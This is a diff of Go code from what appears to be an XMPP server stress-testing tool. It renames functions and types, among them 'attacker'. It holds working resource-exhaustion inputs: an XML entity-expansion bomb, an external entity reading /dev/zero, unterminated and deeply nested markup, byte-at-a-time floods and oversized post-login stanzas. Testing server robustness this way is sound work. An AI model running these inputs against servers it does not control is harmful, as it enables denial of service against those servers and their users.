@@ -4,66 +4,94 @@ import (
 	"fmt"
 	"strings"
 	"time"
+
+	"canto/bench/xmpp"
 )
 
-// A markup is made of pieces, until who gets it has enough.
+// A markup is input that is made of pieces, until the server has enough.
 type markup struct {
 	head  string
-	piece func(b []byte, n int) []byte // appends the n-th
+	piece func(b []byte, n int) []byte // appends the n-th piece
 	tail  string
-	bytes bool // one at a time
+	bytes bool // one byte at a time
 }
 
 func repeat(s string) func([]byte, int) []byte {
 	return func(b []byte, _ int) []byte { return append(b, s...) }
 }
 
-// early are what is sent before login, behind a header.
-func early() []markup {
+// beforeLogin are inputs after a header, before login.
+func beforeLogin() []markup {
 	return []markup{
-		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                         // a name without an end
-		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                     // a value without an end
-		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "a%d='' ", n) }, "", false},              // attributes
-		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "xmlns:p%d='u:%d' ", n, n) }, "", false}, // prefixes
-		{"", repeat("<a>"), "", false},                                                                           // depth
-		{"", func(b []byte, n int) []byte { return fmt.Appendf(b, "<p%d:a xmlns:p%d='u'>", n, n) }, "", false},   // depth, each with a prefix
-		{"<auth>", repeat("<a/>"), "", false},                                                                    // children
-		{"<auth>", repeat("<a b=''/>"), "", false},                                                               // children with attributes
-		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", false},               // text without an end
-		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("&#x41;&amp;"), "", false},                    // references
-		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'><![CDATA[", repeat("]]]]]]]]&&<<"), "", false},          // a section without an end
-		{"<!--", repeat("- - - "), "", false},                                                                    // a comment
-		{"<?a ", repeat("? ? ? "), "", false},                                                                    // an instruction
-		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("&lol;"), "", false},                          // an entity
-		{"", repeat("<a xmlns='u'/>"), "", false},                                                                // elements
-		{"", repeat(strings.Repeat(" ", 64)), "", false},                                                         // blanks
-		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                          // a name, a byte at a time
-		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                      // a value, a byte at a time
-		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", true},                // text, a byte at a time
-		{"<auth>", repeat("\xed\xa0\x80\xff"), "", false},                                                        // bytes that are no text
+		// a name without an end
+		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", false},
+		// a value without an end
+		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", false},
+		// attributes
+		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "a%d='' ", n) }, "", false},
+		// prefixes
+		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "xmlns:p%d='u:%d' ", n, n) }, "", false},
+		// depth
+		{"", repeat("<a>"), "", false},
+		// depth, each with a prefix
+		{"", func(b []byte, n int) []byte { return fmt.Appendf(b, "<p%d:a xmlns:p%d='u'>", n, n) }, "", false},
+		// children
+		{"<auth>", repeat("<a/>"), "", false},
+		// children with attributes
+		{"<auth>", repeat("<a b=''/>"), "", false},
+		// text without an end
+		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", false},
+		// references
+		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("&#x41;&amp;"), "", false},
+		// a section without an end
+		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'><![CDATA[", repeat("]]]]]]]]&&<<"), "", false},
+		// a comment
+		{"<!--", repeat("- - - "), "", false},
+		// an instruction
+		{"<?a ", repeat("? ? ? "), "", false},
+		// an entity
+		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("&lol;"), "", false},
+		// elements
+		{"", repeat("<a xmlns='u'/>"), "", false},
+		// blanks
+		{"", repeat(strings.Repeat(" ", 64)), "", false},
+		// a name, a byte at a time
+		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", true},
+		// a value, a byte at a time
+		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", true},
+		// text, a byte at a time
+		{"<auth xmlns='" + xmpp.NSSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", true},
+		// bytes that are no text
+		{"<auth>", repeat("\xed\xa0\x80\xff"), "", false},
 	}
 }
 
-// instead are what is sent in place of a header.
-func instead(header string) []markup {
+// insteadOfHeader are inputs in place of a header.
+func insteadOfHeader(header string) []markup {
 	bomb := "<!DOCTYPE l [<!ENTITY a0 'ha'>"
 	for n := 1; n < 30; n++ {
 		bomb += fmt.Sprintf("<!ENTITY a%d '&a%d;&a%d;'>", n, n-1, n-1)
 	}
 	root := strings.TrimSuffix(header, ">")
 	return []markup{
-		{"<?xml version='1.0'?>" + bomb + "]><l>&a29;", repeat("&a29;"), "", false},                          // a document type
-		{"<?xml version='1.0'?><!DOCTYPE l SYSTEM 'file:///dev/zero'><l>", repeat("&x;"), "", false},         // an external entity
-		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " a%d=''", n) }, "", false},              // a header with attributes
-		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " xmlns:q%d='u:%d'", n, n) }, "", false}, // a header with prefixes
-		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", false},                                               // a header without an end
-		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                // a header, a byte at a time
+		// a document type
+		{"<?xml version='1.0'?>" + bomb + "]><l>&a29;", repeat("&a29;"), "", false},
+		// an external entity
+		{"<?xml version='1.0'?><!DOCTYPE l SYSTEM 'file:///dev/zero'><l>", repeat("&x;"), "", false},
+		// a header with attributes
+		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " a%d=''", n) }, "", false},
+		// a header with prefixes
+		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " xmlns:q%d='u:%d'", n, n) }, "", false},
+		// a header without an end
+		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", false},
+		// a header, a byte at a time
+		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", true},
 	}
 }
 
-// stanzas are payloads of messages that cost much for their size, and yet, at some 48 KiB, are within what
-// servers commonly allow after login.
-func stanzas() []markup {
+// costlyPayloads are payloads of messages that cost much for their size, and that, at some 48 KiB,
+// servers commonly accept after login.
+func costlyPayloads() []markup {
 	nest := strings.Repeat("<a>", 50) + strings.Repeat("</a>", 50)
 	attrs := "<a"
 	for n := range 50 {
@@ -88,7 +116,7 @@ func stanzas() []markup {
 }
 
 // badXML is, for half of the lines, markup before login; for the other half, after it.
-func badXML(l *line, round int) error {
+func badXML(l *attacker, round int) error {
 	n := l.i/2 + round
 	if l.i%2 == 1 {
 		return l.badStanzas(n)
@@ -98,7 +126,7 @@ func badXML(l *line, round int) error {
 	if !addr.IsValid() {
 		addr = a.cfg.Direct
 	}
-	s, err := l.hail(addr)
+	s, err := l.connect(addr)
 	if err != nil {
 		return err
 	}
@@ -109,19 +137,19 @@ func badXML(l *line, round int) error {
 		}
 	}
 	header := a.header()
-	list, other := early(), instead(header)
+	list, other := beforeLogin(), insteadOfHeader(header)
 	m := list[n%len(list)]
 	if n%5 == 4 {
 		m, header = other[n/5%len(other)], ""
 	}
-	if err := s.say(header); err != nil {
+	if err := s.send(header); err != nil {
 		return err
 	}
-	return s.pour(&m, 256<<10)
+	return s.sendEndless(&m, 256<<10)
 }
 
-// pour writes m up to so many bytes, unless the server ends it before.
-func (w *wire) pour(m *markup, most int) error {
+// sendEndless writes m up to so many bytes, unless the server ends it before.
+func (w *transport) sendEndless(m *markup, most int) error {
 	end := w.drain()
 	b := []byte(m.head)
 	chunk := 4 << 10 // in an attempt
@@ -135,7 +163,7 @@ func (w *wire) pour(m *markup, most int) error {
 		if err := w.a.attempt(1); err != nil {
 			return err
 		}
-		if err := w.put(b, m.bytes); err != nil {
+		if err := w.writeAll(b, m.bytes); err != nil {
 			return err
 		}
 		select {
@@ -146,19 +174,19 @@ func (w *wire) pour(m *markup, most int) error {
 		done += len(b)
 		b = b[:0]
 	}
-	if err := w.say(m.tail); err != nil {
+	if err := w.send(m.tail); err != nil {
 		return err
 	}
-	// The server takes it all, or has not yet said what it thinks of it.
+	// The server accepts the input, or has not answered yet.
 	select {
 	case err := <-end:
 		return err
 	case <-time.After(time.Second):
-		return errLeft
+		return errDone
 	}
 }
 
-func (w *wire) put(b []byte, bytes bool) error {
+func (w *transport) writeAll(b []byte, bytes bool) error {
 	if !bytes {
 		_, err := w.top.Write(b)
 		return err
@@ -171,14 +199,15 @@ func (w *wire) put(b []byte, bytes bool) error {
 	return nil
 }
 
-// badStanzas is a session that writes what costs to itself, as big as it may be, and in the end bigger.
-func (l *line) badStanzas(n int) error {
+// badStanzas is a session that sends costly payloads as large as the server allows, and then one
+// that is larger.
+func (l *attacker) badStanzas(n int) error {
 	s, err := l.logIn(l.a.cfg.TLS)
 	if err != nil {
 		return err
 	}
 	defer s.Close()
-	list := stanzas()
+	list := costlyPayloads()
 	end := s.drain()
 	size := min(s.limit*7/8, 48<<10) // more of children would be too many for most
 	for k := range 16 {
@@ -191,7 +220,7 @@ func (l *line) badStanzas(n int) error {
 		if err := s.a.attempt(weight); err != nil {
 			return err
 		}
-		if err := s.put(b, single); err != nil {
+		if err := s.writeAll(b, single); err != nil {
 			return err
 		}
 		select {
@@ -204,14 +233,14 @@ func (l *line) badStanzas(n int) error {
 	if err := s.a.attempt(1); err != nil {
 		return err
 	}
-	if err := s.put(s.stanza(&m, s.limit+64<<10), false); err != nil {
+	if err := s.writeAll(s.stanza(&m, s.limit+64<<10), false); err != nil {
 		return err
 	}
 	select {
 	case err := <-end:
 		return err
 	case <-time.After(5 * time.Second):
-		return errLeft
+		return errDone
 	}
 }
 
